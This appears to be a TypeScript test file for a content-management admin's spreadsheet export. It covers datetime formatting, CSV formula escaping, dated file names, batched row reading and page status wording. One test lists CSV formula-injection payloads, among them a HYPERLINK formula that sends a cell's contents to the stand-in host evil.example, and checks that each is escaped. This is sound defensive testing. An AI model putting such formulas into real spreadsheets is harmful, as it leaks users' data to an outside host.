import { expect } from 'chai';
import { csvCell, datedFilename, pythonUtcDateTime } from '../../server/admin/spreadsheet-export';
import { keysetBatches } from '../../server/models/reports-batches';
import { pageStatusString } from '../../server/models/reports-pages';

describe('spreadsheet export', () => {
  it("writes instants as Python's str() of a UTC datetime, as Wagtail's CSV does", () => {
    expect(pythonUtcDateTime(new Date('2026-11-24T21:09:25Z'))).to.equal('2026-11-24 21:09:25+00:00');
    expect(pythonUtcDateTime(new Date('2026-11-24T21:09:25.007Z'))).to.equal('2026-11-24 21:09:25.007000+00:00');
  });

  it("writes text a spreadsheet would run as a formula with a leading ', and numbers as they are", () => {
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+2', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
    for (const text of hostile) expect(csvCell(text), JSON.stringify(text)).to.equal(`'${text}`);
    expect(csvCell(['=1', 'two'])).to.equal("'=1, two");
    expect(csvCell('Great crab = good')).to.equal('Great crab = good');
    expect(csvCell(' =1')).to.equal(' =1');
    expect(csvCell(-5)).to.equal(-5);
    expect(csvCell(false)).to.equal('False');
    expect(csvCell(new Date('2026-11-24T21:09:25Z'))).to.equal('2026-11-24 21:09:25+00:00');
  });

  it("dates file names with the day where the user is, as Wagtail's reports name them", () => {
    const lateEvening = new Date('2026-11-25T03:30:00Z');
    expect(datedFilename('audit-log', lateEvening, 'America/New_York')).to.equal('audit-log-2026-11-24');
    expect(datedFilename('audit-log', lateEvening, 'UTC')).to.equal('audit-log-2026-11-25');
  });

  it('reads every row in batches, each after the last row of the one before', async () => {
    const rows = Array.from({ length: 25 }, (_unused, index) => index + 1);
    const asked: Array<number | undefined> = [];
    const fetch = async (after: number | undefined, limit: number) => {
      asked.push(after);
      return rows.filter((row) => after === undefined || row > after).slice(0, limit);
    };
    const read: number[] = [];
    for await (const row of keysetBatches(fetch, 10)) read.push(row);
    expect(read).to.deep.equal(rows);
    expect(asked).to.deep.equal([undefined, 10, 20]);
  });

  it("words a page's status as Wagtail's status_string", () => {
    const now = new Date('2026-11-24T12:00:00Z');
    const page = { live: true, expired: false, go_live_at: null, workflow_task_id: null, has_unpublished_changes: false };
    expect(pageStatusString(page, now)).to.equal('live');
    expect(pageStatusString({ ...page, has_unpublished_changes: true }, now)).to.equal('live + draft');
    expect(pageStatusString({ ...page, go_live_at: new Date('2026-12-01T00:00:00Z') }, now)).to.equal('live + scheduled');
    expect(pageStatusString({ ...page, live: false }, now)).to.equal('draft');
    expect(pageStatusString({ ...page, live: false, expired: true }, now)).to.equal('expired');
    expect(pageStatusString({ ...page, live: false, workflow_task_id: 3 }, now)).to.equal('in moderation');
  });
});
